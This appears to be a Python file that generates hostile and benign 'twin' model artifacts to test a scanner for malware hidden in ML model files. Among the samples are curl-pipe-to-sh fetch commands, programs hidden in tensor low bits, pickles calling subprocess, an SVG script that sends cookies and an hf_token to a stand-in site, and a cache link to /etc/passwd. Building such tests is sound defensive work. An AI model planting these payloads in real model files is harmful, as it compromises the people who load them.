"""Everywhere: appended content, endings that lie, executables in numbers, hidden bits, links, pictures."""

from __future__ import annotations

import base64
import json
import struct

import numpy as np

from assembly import call, glob, model, pickle
from pair import SHELL
from seventh.kit import HOST, SITE, elf, floats, gguf, layer, macho, pe, png, safetensors, second, state, torch_zip, zipped


def add(out):
    def one(name, hostile, twin, file=None, why="", prove=None):
        out.add("everywhere", name, hostile, twin, prove, file, why)

    one(
        "program_after_the_weights",
        gguf(tail=bytes(64) + elf() + bytes(200)),
        gguf(tail=bytes(32)),
        "model.gguf",
        "a Linux program after the last tensor; the twin is padded with zeros",
    )
    body = zipped({"archive/data.pkl": pickle(model(call(glob("pydoc", "pipepager"), "x", SHELL))), "archive/version": "3\n"})
    one(
        "picture_with_a_model_behind_it",
        png() + body,
        png(48, 48),
        "logo.png",
        "a picture with a torch archive behind it: zip readers find it from the end",
        "torch.behind",
    )
    protocol_0 = b"(dp0\nVthe\np1\nI0\nsVof\np2\ncsubprocess\ngetoutput\np3\n(V" + SHELL.encode() + b"\np4\ntp5\nRp6\ns."
    one(
        "vocabulary_is_a_pickle",
        protocol_0,
        '{"the": 0, "of": 1, "csubprocess": 2, "getoutput": 3}',
        "vocab.json",
        "a pickle in the text of protocol 0 under the ending of JSON",
        "pickle",
    )
    script = f"#!/bin/sh\n# weights: fp16, 2 shards\n(curl -s http://{HOST}/w || true) | sh\nexit 0\n"
    one(
        "weights_are_a_script",
        {"pytorch_model.bin": script, "config.json": '{"model_type": "bert"}'},
        {"pytorch_model.bin": torch_zip(second(pickle(state()))), "config.json": '{"model_type": "bert"}'},
        None,
        "the file of the weights is a shell script",
        "program.sh",
    )
    image = macho()
    noise = np.random.default_rng(4).integers(0, 256, len(image), "u1").tobytes()

    def quantised(data):
        return safetensors([layer("lora.A", 8, 4), ("lora.B.qweight", "U8", [len(data)], data)])

    one(
        "mach_o_in_a_quantised_tensor",
        quantised(image),
        quantised(noise),
        "adapter_model.safetensors",
        "a tensor of bytes is a program of macOS; the twin's bytes are random",
    )

    def config(data):
        return json.dumps(
            {
                "model_type": "vit",
                "id2label": {"0": "cat"},
                "preview": "data:application/octet-stream;base64," + base64.b64encode(data).decode(),
            }
        )

    one(
        "windows_program_in_a_config",
        {"config.json": config(pe()), "model.safetensors": safetensors([layer("fc", 4, 4)])},
        {"config.json": config(png()), "model.safetensors": safetensors([layer("fc", 4, 4)])},
        None,
        "a Windows program in base64; the twin holds a picture",
    )

    # Low bits: one byte in each float is the payload's, so the weights hardly change.
    words = np.frombuffer(floats(16384, 21), "<u4").copy()
    hidden = (b"#!/bin/sh\ncurl -s http://198.51.100.23/s | sh\n" + elf()) * 40
    low = np.frombuffer((hidden * 9)[: len(words)], "u1")
    stained = ((words & ~np.uint32(0xFF)) | low).astype("<u4").tobytes()
    one(
        "script_in_low_bits",
        safetensors([("fc.weight", "F32", [128, 128], stained)]),
        safetensors([("fc.weight", "F32", [128, 128], words.astype("<u4").tobytes())]),
        "model.safetensors",
        "the lowest byte of each weight spells a script and a program",
    )
    tail = np.concatenate(
        [np.random.default_rng(8).normal(0, 0.05, 2048).astype("<f4").view("u1"), np.frombuffer(elf().ljust(512, b"\0"), "u1")]
    )
    plain = np.random.default_rng(8).normal(0, 0.05, len(tail) // 4).astype("<f4").view("u1")

    def array(data):
        head = f"{{'descr': '<f4', 'fortran_order': False, 'shape': ({len(data) // 4},), }}".encode()
        head += b" " * (-(len(head) + 11) % 64) + b"\n"
        return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + data.tobytes()

    one(
        "program_in_the_numbers_of_an_array",
        array(tail),
        array(plain),
        "embeddings.npy",
        "the last numbers of an array are a Linux program",
    )

    # Links of a cache, pictures with programs, keys said twice.
    snapshot = "models--a--tiny/snapshots/0123456789abcdef0123456789abcdef01234567/"
    blob = "models--a--tiny/blobs/" + "c" * 64

    def cache(target):
        return {
            blob: safetensors([layer("fc.weight", 8, 4)]),
            snapshot + "model.safetensors": ("link", "../../blobs/" + "c" * 64),
            snapshot + "config.json": ("link", target),
            "models--a--tiny/blobs/" + "a" * 40: '{"model_type": "bert"}',
        }

    one(
        "cache_link_leaves_the_cache",
        cache("../../../../../../etc/passwd"),
        cache("../../blobs/" + "a" * 40),
        None,
        "a snapshot's link leads out of the cache; the twin's leads to a blob, as the hub writes it",
    )
    vector = '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">{}<circle cx="32" cy="32" r="30" fill="#36c"/></svg>\n'
    one(
        "vector_picture_with_a_program",
        {
            "assets/loss.svg": vector.format(
                f'<script>fetch("https://{SITE}/s?c="+encodeURIComponent(document.cookie+localStorage.getItem("hf_token")))</script>'
            ),
            "README.md": "![loss](assets/loss.svg)\n",
        },
        {
            "assets/loss.svg": vector.format("<title>loss by epoch</title><style>circle{stroke:#000}</style>"),
            "README.md": "![loss](assets/loss.svg)\n",
        },
        None,
        "the card's picture sends the reader's token away",
    )
    twice = '{{"architectures": ["TinyModel"], "auto_map": null, "model_type": "tiny", "hidden_size": 8, {} "vocab_size": 16}}'
    kept = {"model.safetensors": safetensors([layer("fc", 4, 4)])}
    one(
        "config_key_said_twice",
        {"config.json": twice.format('"auto_map": {"AutoModel": "quick-labs/tiny--modeling.Tiny"},'), **kept},
        {"config.json": twice.format('"auto_factor": 1.0,'), **kept},
        None,
        "readers of JSON keep the last of two equal keys: the code of another repository",
    )
